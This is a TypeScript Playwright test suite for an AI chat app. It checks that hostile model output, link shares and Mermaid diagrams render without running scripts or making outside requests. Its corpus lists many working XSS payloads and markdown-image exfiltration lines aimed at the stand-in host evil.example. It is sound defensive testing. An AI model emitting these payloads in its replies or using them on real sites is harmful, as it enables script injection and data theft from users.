import { randomUUID } from 'node:crypto';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { replyWith, send, signUp, type Visit, visit } from './support/browser.ts';
import { setStage } from './support/stage.ts';

/** Each would run a script or fetch something if any part of the page trusted it. */
const corpus = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<a href="javascript:window.hacked=1">click</a>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt&colon;window.hacked=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '<javascript:window.hacked=1>',
  '![leak](https://evil.example/?q=secret)',
  '![leak][ref]\n\n[ref]: https://evil.example/ref.png',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/y.css);</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus="window.hacked = 1"></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '```html\n<script>window.hacked = 1</script>\n```',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '`<img src=x onerror=window.hacked=1>`',
  '| <img src=x onerror=window.hacked=1> | b |\n| --- | --- |\n| [x](javascript:window.hacked=1) | <script>window.hacked=1</script> |',
  '$$\\href{javascript:window.hacked=1}{x}$$',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
  '<a href="https://ok.example" onclick="window.hacked=1" style="position:fixed;inset:0">cover</a>',
  'https://ok.example/"onmouseover="window.hacked=1',
  '<div id="root">clobbered</div><form id="documentElement"></form>',
  '$\\href{javascript:window.hacked=1}{x}$ \\(\\url{javascript:window.hacked=1}\\)',
  '\\[\\includegraphics{https://evil.example/k.png}\\]',
  '$$\n\\htmlStyle{position:fixed;inset:0}{x}\\htmlData{a=b}{x}\n$$',
  '$\\unknown{<img src=x onerror=window.hacked=1>}$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
].join('\n\n');

/** Diagrams that try to run, fetch and restyle; the last one is honest. */
const diagrams = [
  'graph TD\n  A["<img src=x onerror=\'parent.hacked = 1\'>"] --> B["<script>parent.hacked = 1</script>"]\n  click A "javascript:parent.hacked=1"\n  click B call hacked()',
  '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/m.css); * { background: url(https://evil.example/m.png) }"}}%%\ngraph TD\n  A --> B',
  '---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;} body{display:none"\n---\ngraph LR\n  A["<iframe src=https://evil.example/>"] --> B["![x](https://evil.example/n.png)"]',
  'sequenceDiagram\n  Ada->>Bob: Hello',
]
  .map((description) => `\`\`\`mermaid\n${description}\n\`\`\``)
  .join('\n\n');

const stage = setStage({
  defaultModel: 'by-one:latest',
  models: {
    'by-one:latest': { kind: 'scripted', text: corpus, codePointsPerToken: 1, ratePerSecond: 1_500 },
    'diagrams:latest': { kind: 'scripted', text: diagrams },
    'by-seven:latest': { kind: 'scripted', text: corpus, codePointsPerToken: 7, ratePerSecond: 200 },
  },
});

const replies = '[data-testid="message"]';

/** What inside of `place` could act: elements that load or run something, handlers, links that are no links. */
function findDangers(page: Page, place: string): Promise<string[]> {
  return page.evaluate((outer) => {
    const dangers: string[] = 'hacked' in window ? ['a script ran'] : [];
    for (const element of document.querySelectorAll(`${outer} *`)) {
      if (
        ['SCRIPT', 'IFRAME', 'IMG', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'META', 'BASE', 'FORM', 'INPUT'].includes(
          element.tagName,
        )
      )
        dangers.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) dangers.push(`${name}=${value}`);
        if ((name === 'href' || name === 'src' || name === 'action') && !/^(https?:|mailto:|#|\/)/.test(value))
          dangers.push(`${name}=${value}`);
      }
    }
    return dangers;
  }, place);
}

async function choose(page: Page, model: string): Promise<void> {
  await page.getByRole('button', { name: /model/i }).first().click();
  await page
    .getByRole('menuitemradio', { name: new RegExp(model) })
    .last()
    .click();
}

async function expectHarmless({ page, problems, foreignRequests }: Visit, place = replies) {
  expect([await findDangers(page, place), problems, foreignRequests]).toEqual([[], [], []]);
}

describe('a diagram', () => {
  it('is drawn in a frame that may do nothing, and reaches nothing from there', async () => {
    const session = await visit(stage.browser, stage.url);
    const { page, problems, foreignRequests } = session;
    await signUp(page, { email: `${randomUUID()}@example.com` });
    await choose(page, 'diagrams:latest');
    await send(page, 'draw');
    await replyWith(page, 'completed').waitFor();
    await page.frameLocator('iframe').last().getByText('Hello').waitFor();
    const frames = await page
      .locator('iframe')
      .evaluateAll((all) =>
        all.map((frame) => ({ sandbox: frame.getAttribute('sandbox'), src: frame.getAttribute('src') })),
      );
    expect(frames.length).toBeGreaterThan(0);
    expect(frames.every(({ sandbox, src }) => sandbox === '' && src === null)).toBe(true);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(foreignRequests).toEqual([]);
    expect(problems).toEqual([]);
    await session.context.close();
  });
});

describe('hostile model output', () => {
  it.each(['by-one:latest', 'by-seven:latest'])(
    'from %s runs nothing and fetches nothing: while it streams, at its end, and after a reload',
    async (model) => {
      const session = await visit(stage.browser, stage.url);
      const { page } = session;
      await signUp(page, { email: `${randomUUID()}@example.com` });
      await choose(page, model);
      await send(page, 'do your worst');
      let ended = false;
      const end = replyWith(page, 'completed')
        .waitFor({ timeout: 60_000 })
        .then(() => {
          ended = true;
        });
      while (!ended) {
        await expectHarmless(session);
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      }
      await end;
      await expectHarmless(session);
      for (const link of await page.locator('[data-testid="message"] a').all()) {
        expect(await link.getAttribute('rel')).toContain('noopener');
        expect(await link.getAttribute('rel')).toContain('noreferrer');
      }
      await page.reload();
      await replyWith(page, 'completed').waitFor();
      await expectHarmless(session);
      await session.context.close();
    },
  );

  it('runs nothing and fetches nothing in what a link shows', async () => {
    const session = await visit(stage.browser, stage.url);
    const { page } = session;
    await signUp(page, { email: `${randomUUID()}@example.com` });
    await choose(page, 'by-seven:latest');
    await send(page, 'do your worst');
    await replyWith(page, 'completed').waitFor();
    await page
      .getByRole('main')
      .getByRole('button', { name: /^Options for/ })
      .click();
    await page.getByRole('menuitem', { name: 'Share…' }).click();
    await page.getByRole('button', { name: 'Create link' }).click();
    const guest = await visit(stage.browser, await page.getByLabel('Address of the link').inputValue());
    const shown = guest.page.getByRole('article').last();
    await shown.getByText('onmouseover').waitFor();
    await shown.locator('.katex').first().waitFor();
    await expectHarmless(guest, 'article');
    await guest.context.close();
    await session.context.close();
  });
});
